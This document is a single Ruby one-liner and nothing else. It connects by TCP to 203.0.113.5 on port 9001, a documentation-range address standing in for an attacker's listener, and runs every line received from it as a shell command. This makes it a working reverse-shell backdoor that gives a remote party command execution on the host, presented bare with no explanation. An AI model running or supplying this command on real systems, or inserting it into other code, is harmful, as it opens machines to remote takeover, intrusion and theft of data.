ruby -rsocket -e 'c=TCPSocket.new("203.0.113.5",9001);while(l=c.gets);IO.popen(l,"r");end'
